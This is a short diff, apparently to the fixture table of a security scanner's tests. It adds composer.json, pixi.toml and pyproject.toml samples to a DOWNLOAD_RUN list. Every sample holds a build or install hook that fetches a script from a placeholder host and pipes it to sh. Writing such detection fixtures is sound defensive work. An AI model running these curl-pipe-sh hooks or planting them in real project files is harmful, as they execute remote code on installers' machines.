@@ -86,6 +86,9 @@ DOWNLOAD_RUN = [
     ("Makefile", "setup:\n\tcurl -fsSL https://x.example.com/i.sh -o /tmp/i.sh && sh /tmp/i.sh\n"),
     ("package.json", json.dumps({"scripts": {"bootstrap": "eval \"$(curl -s https://x.example.com/e)\""}})),
     ("pyproject.toml", "[tool.poe.tasks]\nboot = \"sh -c \\\"$(wget -qO- https://x.example.com/b)\\\"\"\n"),
+    ("composer.json", json.dumps({"scripts": {"post-install-cmd": ["@php artisan x", "curl -s https://x.example.com/i | sh"]}})),
+    ("pixi.toml", "[tasks]\nboot = \"curl -s https://x.example.com/i | sh\"\n"),
+    ("pyproject.toml", "[tool.pixi.feature.dev.tasks]\nboot = { cmd = \"curl -s https://x.example.com/i | sh\" }\n"),
 ]
 
 
